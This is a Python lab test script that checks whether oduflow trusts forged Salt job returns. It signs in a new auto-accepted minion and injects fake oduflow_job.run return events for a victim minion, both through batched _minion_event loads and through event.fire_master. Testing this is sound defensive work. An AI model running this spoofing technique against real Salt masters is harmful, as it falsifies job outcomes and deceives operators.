#!/usr/bin/python3
"""forger.py: a lying minion for the live trust check of oduflow against a real Salt 3006 lab.

Run it with the lab's Salt on the Python path (PYTHONPATH=$SALTLAB_DIR/src:$SALTLAB_DIR/pylib,
/usr/bin/python3, as root). It uses Salt's public Python API only; no Salt code is copied here.

What it does:

1. Makes a fresh minion identity, client-<new uuid>, with its own key pair in its own pki dir under a
   temp dir, and authenticates to master A over Salt's minion request channel (AES). The lab's master
   auto-accepts the key. This identity is "any other authenticated minion".
2. Reads the master event bus. As soon as salt/job/<jid>/new for oduflow_job.run on the victim with
   the expected profile appears, it fires at once, for that JID:
   a. through its own request channel, a _minion_event load whose batched "events" list holds one
      salt/job/<jid>/ret/<victim> event with data shaped exactly like the victim's real
      oduflow_job.run return (id=victim, cmd=_return, fun=oduflow_job.run, a protocol-1 receipt).
      The master fires batched data exactly as sent, so on the bus it looks like a real return;
   b. through the victim minion itself: event.fire_master(forged data, the same tag), published to
      the victim with the master's root key (LocalClient).
3. Records, sanitized (tag, cmd, id, fun, status/passed/total, arrival time after .../new), every
   event of that JID plus the oduflow_job.* publications to the victim, until the stop file exists.
4. Prints one JSON summary line: "forger: summary {...}".

It prints "forger: ready ..." once authenticated and listening. It never prints keys or tokens.
"""

import argparse
import json
import os
import sys
import tempfile
import time
import uuid

import salt.channel.client
import salt.client
import salt.config
import salt.crypt
import salt.utils.event

RUN_FUN = "oduflow_job.run"


def say(*parts):
    print("forger:", *parts, flush=True)


def forger_opts(workdir, forger_id, host, port):
    """Minion opts for the forged identity: everything (keys, cache, sockets, logs) under workdir."""
    for sub in ("pki", "cache", "run", "logs"):
        os.makedirs(os.path.join(workdir, sub), mode=0o700, exist_ok=True)
    conf = os.path.join(workdir, "minion")
    with open(conf, "w", encoding="utf-8") as f:
        f.write(
            "\n".join(
                [
                    "master: %s" % host,
                    "master_port: %d" % port,
                    "id: %s" % forger_id,
                    "root_dir: %s" % workdir,
                    "pki_dir: %s" % os.path.join(workdir, "pki"),
                    "cachedir: %s" % os.path.join(workdir, "cache"),
                    "sock_dir: %s" % os.path.join(workdir, "run"),
                    "log_file: %s" % os.path.join(workdir, "logs", "minion.log"),
                    "acceptance_wait_time: 1",
                    "",
                ]
            )
        )
    opts = salt.config.minion_config(conf, minion_id=forger_id, ignore_config_errors=False)
    opts["id"] = forger_id
    opts["master_uri"] = "tcp://%s:%d" % (host, port)
    opts["master_ip"] = host
    opts.pop("master_uri_list", None)
    return opts


def forged_receipt(victim, request_id, jid, profile, forge):
    r = {
        "protocol": 1,
        "minion_id": victim,
        "request_id": request_id,
        "jid": jid,
        "profile": profile,
        "state_digest": "",
    }
    if forge == "succeeded":
        r.update(status="succeeded", passed=3, total=3)
    else:
        r.update(status="failed", passed=1, total=3)
    return r


def forged_return(victim, jid, fun_args, receipt):
    """The data of a real oduflow_job.run return event, with a forged receipt."""
    ok = receipt["status"] == "succeeded"
    return {
        "cmd": "_return",
        "id": victim,
        "fun": RUN_FUN,
        "fun_args": list(fun_args),
        "jid": jid,
        "return": receipt,
        "retcode": 0 if ok else 2,
        "success": ok,
        "_stamp": time.strftime("%Y-%m-%dT%H:%M:%S.000000", time.gmtime()),
    }


def sanitize(tag, data, forged, forger_id):
    """tag, cmd, id, fun and, for returns, status/passed/total: never keys, tokens or whole returns."""
    out = {"tag": tag}
    if not isinstance(data, dict):
        return out
    for k in ("cmd", "id", "fun"):
        if k in data:
            out[k] = data[k]
    ret = data.get("return")
    inner = data.get("data")
    if data.get("cmd") == "_minion_event" and isinstance(inner, dict):
        # event.fire_master's single-event form: the master wraps the load; the forged data is inside.
        out["inner_cmd"] = inner.get("cmd")
        out["inner_id"] = inner.get("id")
        ret = inner.get("return")
    if isinstance(ret, dict) and "status" in ret:
        out["status"] = ret.get("status")
        out["passed"] = ret.get("passed")
        out["total"] = ret.get("total")
    if forged is not None and strip_stamp(data) == strip_stamp(forged):
        out["origin"] = "FORGED: batched events form from %s" % forger_id
    elif data.get("cmd") == "_minion_event":
        out["origin"] = "FORGED: event.fire_master from the victim minion itself"
    elif tag.endswith("/new"):
        out["origin"] = "publication"
    elif tag.endswith("/publish"):
        out["origin"] = "publication copy (salt/job/<jid>/publish, Salt 3007 and later)"
    else:
        out["origin"] = "real return (cmd _return, from the minion's own return channel)"
    return out


def strip_stamp(d):
    """The event data without _stamp, which the master's fire_event sets on every event it fires."""
    return {k: v for k, v in d.items() if k != "_stamp"}


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--victim", required=True)
    ap.add_argument("--profile", required=True, help="the profile of the request to forge a return for")
    ap.add_argument("--forge", required=True, choices=("succeeded", "failed"), help="the forged status")
    ap.add_argument("--stop-file", required=True)
    ap.add_argument("--master-conf", default="/srv/saltlab/etc/master")
    ap.add_argument("--host", default="", help="the master's address (default: interface of --master-conf)")
    ap.add_argument("--port", type=int, default=0, help="the master's ret_port (default: that of --master-conf)")
    ap.add_argument("--timeout", type=float, default=90.0)
    ap.add_argument("--workdir", default="")
    args = ap.parse_args()

    # The master the forger signs in to is the one whose bus it reads (--master-conf) unless named: a
    # default port would sign in to whichever lab listens there, another Salt than the one under test.
    master_opts = salt.config.master_config(args.master_conf)
    if not args.host:
        args.host = master_opts.get("interface") or "127.0.0.1"
        if args.host in ("0.0.0.0", "::"):
            args.host = "127.0.0.1"
    if not args.port:
        args.port = int(master_opts["ret_port"])
    workdir = args.workdir or tempfile.mkdtemp(prefix="oduflow-forger-")
    forger_id = "client-" + str(uuid.uuid4())
    opts = forger_opts(workdir, forger_id, args.host, args.port)

    # Authenticate as the new identity: a fresh key pair is generated in its pki dir, the master
    # auto-accepts it, and the AES session key comes back.
    auth = salt.crypt.SAuth(opts)
    auth.authenticate()
    tok = auth.gen_token(b"salt")
    channel = salt.channel.client.ReqChannel.factory(opts, crypt="aes")
    pub_ok = os.path.exists(os.path.join(workdir, "pki", "minion.pub"))

    bus = salt.utils.event.get_master_event(master_opts, master_opts["sock_dir"], listen=True)
    local = salt.client.LocalClient(mopts=master_opts)

    # Prove the channel works before the real request: one harmless event through the batched form.
    channel.send(
        {
            "id": forger_id,
            "cmd": "_minion_event",
            "tok": tok,
            "events": [{"tag": "oduflow/forge/hello", "data": {"forger": forger_id}}],
        },
        timeout=30,
    )
    say(
        "ready: authenticated to %s as %s with its own key pair (pki dir %s, minion.pub %s); "
        "request channel AES; reading the master bus %s"
        % (opts["master_uri"], forger_id, os.path.join(workdir, "pki"), "present" if pub_ok else "MISSING",
           master_opts["sock_dir"])
    )

    jid = None
    t_new = None
    forged = None
    seen = []
    run_news = 0
    other_pubs = []
    fired = {}
    deadline = time.monotonic() + args.timeout
    stop_at = None
    while time.monotonic() < deadline:
        if stop_at is None and os.path.exists(args.stop_file):
            stop_at = time.monotonic() + 1.0  # linger: late events of the JID still count
        if stop_at is not None and time.monotonic() >= stop_at:
            break
        ev = bus.get_event(wait=0.2, tag="salt/job/", full=True)
        if not ev:
            continue
        tag, data = ev.get("tag", ""), ev.get("data") or {}
        parts = tag.split("/")
        if len(parts) < 4:
            continue
        ejid, kind = parts[2], parts[3]
        if kind == "new" and isinstance(data, dict) and args.victim in (data.get("minions") or []):
            fun = data.get("fun")
            if isinstance(fun, str) and fun.startswith("oduflow_job.") and ejid != jid:
                other_pubs.append({"jid": ejid, "fun": fun})
        if jid is None and kind == "new" and isinstance(data, dict):
            fargs = data.get("arg") or []
            if (
                data.get("fun") == RUN_FUN
                and args.victim in (data.get("minions") or [])
                and len(fargs) >= 2
                and fargs[1] == args.profile
            ):
                jid, t_new = ejid, time.monotonic()
                request_id = fargs[0]
                receipt = forged_receipt(args.victim, request_id, jid, args.profile, args.forge)
                forged = forged_return(args.victim, jid, fargs, receipt)
                ftag = "salt/job/%s/ret/%s" % (jid, args.victim)
                # a. another minion identity, batched events form, its own request channel.
                channel.send(
                    {"id": forger_id, "cmd": "_minion_event", "tok": tok, "events": [{"tag": ftag, "data": forged}]},
                    timeout=30,
                )
                fired["batched_ms"] = round((time.monotonic() - t_new) * 1000, 1)
                # b. the victim minion itself, through event.fire_master (published with the root key).
                pub = local.run_job(args.victim, "event.fire_master", kwarg={"data": forged, "tag": ftag})
                fired["fire_master_published_ms"] = round((time.monotonic() - t_new) * 1000, 1)
                fired["fire_master_jid"] = (pub or {}).get("jid")
                say(
                    "saw %s new (%s %s); fired forged %s receipt on tag %s: batched from %s after %.1f ms, "
                    "event.fire_master published to the victim (jid %s) after %.1f ms"
                    % (jid, RUN_FUN, args.profile, args.forge, ftag, forger_id, fired["batched_ms"],
                       fired["fire_master_jid"], fired["fire_master_published_ms"])
                )
                run_news += 1
                seen.append(dict(sanitize(tag, data, None, forger_id), t_ms=0.0))
                continue
        if jid is not None and ejid == jid:
            if kind == "new" and isinstance(data, dict) and data.get("fun") == RUN_FUN:
                run_news += 1
            seen.append(dict(sanitize(tag, data, forged, forger_id), t_ms=round((time.monotonic() - t_new) * 1000, 1)))

    channel.close()
    for s in seen:
        say("event", json.dumps(s, sort_keys=True))
    forged_seen = [s for s in seen if s.get("origin", "").startswith("FORGED")]
    summary = {
        "forger_id": forger_id,
        "jid": jid,
        "forged_status": args.forge,
        "fired": fired,
        "forged_events_on_bus": len(forged_seen),
        "forged_batched_on_bus": sum(1 for s in forged_seen if "batched" in s["origin"]),
        "forged_fire_master_on_bus": sum(1 for s in forged_seen if "fire_master" in s["origin"]),
        "real_returns_on_bus": sum(1 for s in seen if s.get("origin", "").startswith("real")),
        "run_publications": run_news,
        "other_oduflow_publications_to_victim": [p for p in other_pubs if p["jid"] != jid],
    }
    say("summary", json.dumps(summary, sort_keys=True))
    return 0 if jid is not None else 3


if __name__ == "__main__":
    sys.exit(main())
